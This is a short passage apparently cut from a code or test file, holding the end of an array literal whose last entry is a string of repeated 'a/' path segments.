  'a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a',
];
